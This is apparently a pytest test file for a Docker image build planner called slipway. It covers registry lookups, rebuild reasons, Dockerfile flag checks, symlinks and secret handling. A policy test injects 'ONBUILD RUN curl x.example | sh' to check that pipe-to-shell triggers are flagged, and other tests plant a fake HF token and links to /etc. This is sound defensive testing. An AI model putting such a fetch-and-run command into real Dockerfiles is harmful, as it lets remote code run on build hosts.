"""Facts of a sample repository, gathered from its files, an engine in memory and a registry on loopback."""

from __future__ import annotations

import re
from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path
from typing import NoReturn

import pytest

from slipway.config.settings import Settings, load
from slipway.core.errors import PolicyError, UsageError
from slipway.core.image import MODELESS_LABEL, LocalImage, content_tag
from slipway.core.reference import full_name
from slipway.plan.decide import MODES_HINT, plan_build
from slipway.plan.facts import Snapshot, changed_since, gather_facts, identity
from slipway.plan.repository import read_repository
from slipway.registry import Registry
from slipway.secrets.secret import Secret
from slipway.stack.manifests import save_inputs
from slipway.stack.worktree import Worktree
from slipway.testing.fakes import HASTE, FakeEngine, RegistryServer, local_image

ROOT = "python:3.12-slim"
PYTHON = LocalImage("sha256:python", (full_name(ROOT),))
NAMES = ["base-runtime", "base-ml", "svc-forms", "svc-ocr"]


def nobody() -> NoReturn:
    raise AssertionError("the registry was asked")


def settings_of(root: Path, **environment: str) -> Settings:
    return load(root, environment=environment)


def snapshot_of(
    root: Path,
    engine: FakeEngine | None = None,
    registry: Registry | None = None,
    contexts: Mapping[str, Path] | None = None,
    names: list[str] | None = None,
    **environment: str,
) -> Snapshot:
    settings = settings_of(root, **{"REGISTRY": "127.0.0.1:1", **environment})
    asked = registry or Registry("127.0.0.1:1", policy=HASTE)
    repository = read_repository(settings, Worktree(root), contexts or {})
    return gather_facts(repository, engine or FakeEngine([PYTHON]), lambda: asked, names)


def digests(root: Path, **more: object) -> dict[str, str]:
    return dict(snapshot_of(root, **more).facts.digests)  # type: ignore[arg-type]


def changed(before: Mapping[str, str], after: Mapping[str, str]) -> set[str]:
    return {name for name in before if before[name] != after[name]}


def edit(root: Path, path: str, old: str, new: str) -> None:
    file = root / path
    assert old in file.read_text()
    file.write_text(file.read_text().replace(old, new))


def built(found: Snapshot, *names: str) -> list[LocalImage]:
    """The engine's images after a build of ``names``."""
    facts = found.facts
    return [
        local_image(
            name, str(facts.content_reference(name)), str(facts.references[name]), name=name, source=facts.digests[name]
        )
        for name in names
    ]


def test_the_registry_is_asked_only_for_images_missing_from_the_engine(repository: Path) -> None:
    first = snapshot_of(repository)
    engine = FakeEngine([PYTHON, *built(first, *NAMES)])
    settings = settings_of(repository, REGISTRY="127.0.0.1:1")
    again = gather_facts(read_repository(settings, Worktree(repository), {}), engine, nobody, on_missing=nobody)
    assert [step.action for step in plan_build(again.stack, NAMES, again.facts).steps] == ["reuse"] * 4


def test_missing_images_are_known_before_the_registry_is_asked(repository: Path) -> None:
    happened: list[str] = []

    def asked() -> Registry:
        happened.append("registry")
        return Registry("127.0.0.1:1", policy=HASTE)

    found = read_repository(settings_of(repository, REGISTRY="127.0.0.1:1"), Worktree(repository), {})
    gather_facts(found, FakeEngine([PYTHON]), asked, on_missing=lambda: happened.append("missing"))
    assert happened[:2] == ["missing", "registry"] and happened.count("missing") == 1


def test_published_content_is_found(repository: Path) -> None:
    with RegistryServer() as server:
        registry = Registry(server.host)
        first = snapshot_of(repository, registry=registry, REGISTRY=server.host)
        assert (first.facts.published, first.notes) == (frozenset(), ())
        server.add("slipway/base-ml", content_tag(first.facts.digests["base-ml"]))
        server.requests.clear()
        again = snapshot_of(repository, registry=registry, REGISTRY=server.host, names=["svc-ocr"])
        assert again.facts.published == {"base-ml"}
        asked = sorted(request.split("/")[3] for request in server.requests if "manifests" in request)
        assert asked == ["base-ml", "base-runtime", "svc-ocr"]


def test_a_silent_registry_is_a_note(repository: Path) -> None:
    found = snapshot_of(repository)
    assert found.notes == ("127.0.0.1:1 does not answer: slipway does not know which images it has",)
    assert found.facts.published == frozenset()


def test_a_registry_that_wants_a_login_is_a_note(repository: Path) -> None:
    with RegistryServer(login=("basic", "alice", "s3cret")) as server:
        found = snapshot_of(repository, registry=Registry(server.host), REGISTRY=server.host)
        assert [note.endswith("the registry wants a login") for note in found.notes] == [True]


def test_the_plan_names_changes_since_the_last_build(repository: Path) -> None:
    first = snapshot_of(repository)
    facts = first.facts
    made = {facts.digests[name]: facts.manifests[name] for name in NAMES}
    save_inputs(repository / ".slipway", made, facts.trees, images=len(NAMES))
    engine = FakeEngine([PYTHON, *built(first, *NAMES)])
    (repository / "libs/kit/more.py").write_text("x")
    again = snapshot_of(repository, engine)
    assert [(step.image, str(step.reason)) for step in plan_build(again.stack, NAMES, again.facts).steps] == [
        ("base-runtime", "libs/kit/more.py added"),
        ("base-ml", "base-runtime is built"),
        ("svc-forms", "base-runtime is built"),
        ("svc-ocr", "base-ml is built"),
    ]


@pytest.mark.fault("B52")
@pytest.mark.parametrize("labelled", [True, False])
@pytest.mark.parametrize("kept", [True, False])
def test_where_only_modes_differ_that_is_the_reason(repository: Path, kept: bool, labelled: bool) -> None:
    first = snapshot_of(repository)
    facts = first.facts
    if kept:
        made = {facts.digests[name]: facts.manifests[name] for name in NAMES}
        save_inputs(repository / ".slipway", made, facts.trees, images=len(NAMES))
    here = built(first, *NAMES)
    if labelled:
        modeless = {name: {MODELESS_LABEL: facts.modeless[name]} for name in NAMES}
        here = [
            replace(image, labels={**image.labels, **modeless[name]}) for name, image in zip(NAMES, here, strict=True)
        ]
    (repository / "libs/kit/kit.py").chmod(0o664)
    again = snapshot_of(repository, FakeEngine([PYTHON, *here]))
    reasons = {step.image: str(step.reason) for step in plan_build(again.stack, NAMES, again.facts).steps}
    tag = content_tag(facts.digests["base-runtime"])
    if kept:
        assert reasons["base-runtime"] == "only modes differ: libs/kit/kit.py 0644 → 0664"
        assert reasons["base-ml"] == "base-runtime is built"
    else:
        told = "only modes of files differ from" if labelled else "inputs changed since"
        assert reasons["base-runtime"] == f"{told} {tag}"
    notes = [note for note in again.notes if "modes" in note]
    assert bool(notes) == (kept or labelled)
    assert all(note.endswith(MODES_HINT) and "base-runtime" in note for note in notes)
    (repository / "libs/kit/kit.py").write_text("kit = 3")
    changed = snapshot_of(repository, FakeEngine([PYTHON, *here]))
    assert not any("modes" in note for note in changed.notes)
    assert not any("modes" in str(step.reason) for step in plan_build(changed.stack, NAMES, changed.facts).steps)


@pytest.mark.fault("C53")
@pytest.mark.parametrize(
    ("line", "engine", "since"),
    [
        ("COPY --parents libs /x/", "28.5.2+dfsg4", "29.1"),
        ("COPY --parents libs /x/", "29.1.0", ""),
        ("COPY --parents=false libs /x/", "29.0.4", "29.1"),
        ("COPY --exclude=*.md libs /x/", "28.5.2", ""),
        ("ADD --exclude=*.md libs /x/", "28.4.0", "28.5"),
        ("RUN --security=insecure true", "28.5.2", "29.1"),
        ("ONBUILD COPY --parents libs /x/", "28.5.2", "29.1"),
        ("COPY --link --chmod=644 libs /x/", "25.0.0", ""),
        ("COPY --parents libs /x/", "?", ""),
        ("COPY --parents libs /x/", "dev", ""),
    ],
)
def test_a_flag_that_the_engines_frontend_does_not_know(repository: Path, line: str, engine: str, since: str) -> None:
    path = repository / "apps/svc_forms/Dockerfile"
    path.write_text(f"FROM scratch\n{line}\n")
    asked = FakeEngine([PYTHON])
    asked.version = engine
    if not since:
        snapshot_of(repository, asked)
        return
    with pytest.raises(
        UsageError, match=f"Dockerfile:2: .* is not known to the frontend of Docker {re.escape(engine)}"
    ) as caught:
        snapshot_of(repository, asked)
    assert caught.value.hint.startswith(f"Docker {since} knows it")
    snapshot_of(repository, asked, names=["svc-ocr"])
    snapshot_of(repository, asked, BUILDER="other")
    path.write_text(f"# syntax=docker/dockerfile:1@sha256:{'0' * 64}\n{path.read_text()}")
    snapshot_of(repository, asked)


def test_an_image_built_by_hand_on_ours_is_not_ours(repository: Path) -> None:
    first = snapshot_of(repository)
    (ours,) = built(first, "base-ml")
    by_hand = LocalImage("sha256:hand", (str(first.facts.references["svc-ocr"]),), labels=ours.labels, created=9)
    again = snapshot_of(repository, FakeEngine([PYTHON, ours, by_hand]))
    assert (set(again.facts.newest), again.facts.in_engine("svc-ocr")) == ({"base-ml"}, None)


def test_every_missing_source_is_reported_together(repository: Path) -> None:
    for name in ("svc_forms", "svc_ocr"):
        with (repository / f"apps/{name}/Dockerfile").open("a") as file:
            file.write("COPY libs/nothing /x/\n")
    with pytest.raises(UsageError) as caught:
        snapshot_of(repository, names=["svc-forms", "svc-ocr"])
    assert sorted(problem.where for problem in caught.value.problems) == [
        "apps/svc_forms/Dockerfile:6",
        "apps/svc_ocr/Dockerfile:6",
    ]


@pytest.mark.fault("C51")
def test_a_broken_line_of_dockerignore_is_reported_once(repository: Path) -> None:
    (repository / ".dockerignore").write_text("**/*.pyc\n[\n")
    with pytest.raises(UsageError) as caught:
        snapshot_of(repository)
    assert [problem.where for problem in caught.value.problems] == [".dockerignore:2"]


@pytest.mark.fault("C50")
def test_where_several_folders_fit_a_note_names_them(repository: Path) -> None:
    path = repository / "apps/svc_forms/Dockerfile"
    path.write_text("FROM scratch\nCOPY requirements.txt /\nCOPY . /app\n")
    (repository / "apps/svc_forms/requirements.txt").write_text("own")
    alone = snapshot_of(repository)
    assert alone.stack["svc-forms"].context == "apps/svc_forms"
    assert not any("context" in note for note in alone.notes)
    (repository / "requirements.txt").write_text("of all")
    both = snapshot_of(repository)
    assert both.facts.digests == alone.facts.digests
    assert both.notes[0] == (
        "apps/svc_forms/Dockerfile: its context is apps/svc_forms, the nearest folder; "
        "the repository's root has all its sources, too"
    )


def test_a_wheelhouse_that_is_not_there_is_an_error(repository: Path) -> None:
    path = repository / "infra/docker/base-ml.Dockerfile"
    path.write_text(path.read_text() + "RUN --mount=type=bind,from=slipway-wheelhouse,target=/wheels true\n")
    wheels = repository.parent / "wheels"
    with pytest.raises(UsageError, match="wheels: no such folder"):
        snapshot_of(repository, contexts={"slipway-wheelhouse": wheels}, names=["svc-ocr"])
    wheels.mkdir()
    before = digests(repository, contexts={"slipway-wheelhouse": wheels})
    (wheels / "torch.whl").write_text("x")
    assert changed(before, digests(repository, contexts={"slipway-wheelhouse": wheels})) == {"base-ml", "svc-ocr"}


def test_names_are_checked_before_anything_is_read(repository: Path) -> None:
    with pytest.raises(UsageError, match="did you mean svc-ocr"):
        snapshot_of(repository, names=["svc-ocl"])


def on_version(root: Path, version: str) -> None:
    path = root / "apps/svc_ocr/Dockerfile"
    path.write_text(path.read_text().replace("base-ml:${BASE_VERSION}", f"base-ml:{version}"))


@pytest.mark.fault("B06")
def test_a_base_of_this_registry_that_is_not_there(repository: Path) -> None:
    on_version(repository, "v9")
    with RegistryServer() as server:
        for tag in ("v1", "v2", "in-123456789abc"):
            server.add("slipway/base-ml", tag)
        asked = {"registry": Registry(server.host), "REGISTRY": server.host}
        with pytest.raises(UsageError) as caught:
            snapshot_of(repository, **asked)  # type: ignore[arg-type]
        (problem,) = caught.value.problems
        assert problem.where == "apps/svc_ocr/Dockerfile"
        assert problem.what.startswith(f"FROM {server.host}/slipway/base-ml:v9: neither in the engine nor at ")
        assert problem.hint == "did you push base-ml v9? known: v1, v2"
        assert snapshot_of(repository, names=["svc-forms"], **asked).facts.published == frozenset()  # type: ignore[arg-type]
        denied = server.fault("tags/list", 403)
        with pytest.raises(UsageError, match="the registry does not say which versions it has"):
            snapshot_of(repository, **asked)  # type: ignore[arg-type]
        assert denied.struck == 1
        server.add("slipway/base-ml", "v9")
        said = f"{server.host}/slipway/base-ml:v9 is a root image: this stack builds base-ml under another tag; "
        way = 'moving-tags = ["v9"] makes it the parent'
        assert snapshot_of(repository, **asked).notes == (f"apps/svc_ocr/Dockerfile:4: {said}{way}",)  # type: ignore[arg-type]


def test_a_budget_of_an_unknown_image_is_refused(repository: Path) -> None:
    (repository / "pyproject.toml").write_text("[tool.slipway.budgets]\nsvc-ocrr = '1 MB'\nbase-ml = '1 MB'\n")
    with pytest.raises(UsageError) as caught:
        snapshot_of(repository)
    assert str(caught.value) == (
        "error: pyproject.toml:2: budget of svc-ocrr: matches no image\nhint:  did you mean svc-ocr?"
    )


def test_a_wave_is_compared_with_its_own_dockerfiles_alone(repository: Path) -> None:
    """An edit of another image's Dockerfile while this one is built, even a broken one, changes nothing of this one."""
    found = snapshot_of(repository)
    (repository / "apps/svc_forms/Dockerfile").write_text("FRON nothing\n")
    (repository / "infra/docker/base-ml.Dockerfile").unlink()
    assert changed_since(found, ["svc-ocr"], [PYTHON]) == {}
    assert changed_since(found, ["base-ml", "svc-forms", "svc-ocr"], [PYTHON]) == {
        "base-ml": "Dockerfile removed",
        "svc-forms": "Dockerfile changed",
        "svc-ocr": "parent base-ml changed",
    }


def test_a_secret_given_to_a_repository_is_refused_whenever_it_is_read_again(repository: Path) -> None:
    """A root image's triggers are known once the engine was asked: the Dockerfiles are read with them again."""
    settings = settings_of(repository, REGISTRY="127.0.0.1:1")
    found = read_repository(settings, Worktree(repository), {}, secrets=[Secret("geheim12")])
    assert "geheim12" not in repr(found)
    path = repository / "apps/svc_ocr/Dockerfile"
    path.write_text(path.read_text() + "RUN echo geheim12\n")
    triggered = FakeEngine([replace(PYTHON, onbuild=("RUN true",))])
    with pytest.raises(PolicyError, match="known-secret"):
        gather_facts(found, triggered, nobody, ["svc-ocr"])


@pytest.mark.fault("C14")
def test_links_that_lead_outside_are_noted_some_by_name(repository: Path) -> None:
    for number in range(7):
        (repository / f"apps/svc_ocr/link{number}").symlink_to("/etc")
    notes = snapshot_of(repository).notes
    assert (
        len([note for note in notes if note.endswith("leads out of the context: sent as a link, never followed")]) == 5
    )
    assert "2 more links lead out" in notes


def image(*tags: str, digests: tuple[str, ...] = ()) -> LocalImage:
    """As the engine's client gives it: by full names."""
    return LocalImage("sha256:id", tuple(map(full_name, tags)), tuple(map(full_name, digests)))


@pytest.mark.parametrize(
    ("root", "held", "expected"),
    [
        (ROOT, [], ""),
        (ROOT, [image("python:3.13-slim")], ""),
        (ROOT, [image(ROOT)], "sha256:id"),
        (ROOT, [image(ROOT, digests=("python@sha256:b", "python@sha256:a"))], "sha256:a"),
        (ROOT, [image(ROOT, digests=("localhost:5000/python@sha256:z",))], "sha256:id"),
        (ROOT, [image(ROOT, digests=("localhost:5000/python@sha256:z", "python@sha256:a"))], "sha256:a"),
        ("docker.io/library/python:3.12-slim", [image(ROOT)], "sha256:id"),
        ("python", [image("python:latest")], "sha256:id"),
        ("localhost:5000/x", [image("localhost:5000/x:latest", digests=("localhost:5000/x@sha256:x",))], "sha256:x"),
        ("python@sha256:b", [image(digests=("python@sha256:a", "python@sha256:b"))], "sha256:b"),
        ("python:3.12@sha256:b", [image(digests=("python@sha256:b",))], "sha256:b"),
        ("index.docker.io/me/x:1", [image("me/x:1", digests=("me/x@sha256:x",))], "sha256:x"),
        ("registry-1.docker.io/me/x:1", [image("me/x:1")], ""),
        ("LOCALHOST:5000/x:1", [image("localhost:5000/x:1")], ""),
    ],
)
def test_a_root_image_has_its_digest_or_its_id(root: str, held: list[LocalImage], expected: str) -> None:
    assert identity(root, held) == expected


@pytest.mark.fault("B30")
def test_a_policy_problem_of_a_trigger_is_reported_once(repository: Path) -> None:
    """Of the parent where that shows it, else of the image that runs it."""
    edit(repository, "infra/docker/base-ml.Dockerfile", "RUN true", "ONBUILD RUN curl x.example | sh")
    stack = read_repository(settings_of(repository), Worktree(repository), {}).stack
    with pytest.raises(PolicyError) as caught:
        stack.refuse(stack.faults)
    assert [problem.where for problem in caught.value.problems] == ["infra/docker/base-ml.Dockerfile:5"]
    edit(repository, "infra/docker/base-ml.Dockerfile", "RUN curl x.example | sh", "ARG HF_TOKEN=0123456789")
    stack = read_repository(settings_of(repository), Worktree(repository), {}).stack
    with pytest.raises(PolicyError) as caught:
        stack.refuse(stack.faults)
    by = "ONBUILD of localhost:5000/slipway/base-ml:v0.1.0"
    assert [problem.where for problem in caught.value.problems] == [f"apps/svc_ocr/Dockerfile:4 ({by})"]
    edit(repository, "infra/docker/base-ml.Dockerfile", "ONBUILD ARG HF_TOKEN=0123456789", "RUN true")
    with pytest.raises(PolicyError) as caught:
        snapshot_of(repository, FakeEngine([replace(PYTHON, onbuild=("RUN curl x.example | sh",))]), names=["svc-ocr"])
    assert [problem.where for problem in caught.value.problems] == [
        f"infra/docker/base-runtime.Dockerfile:5 (ONBUILD of {ROOT})"
    ]
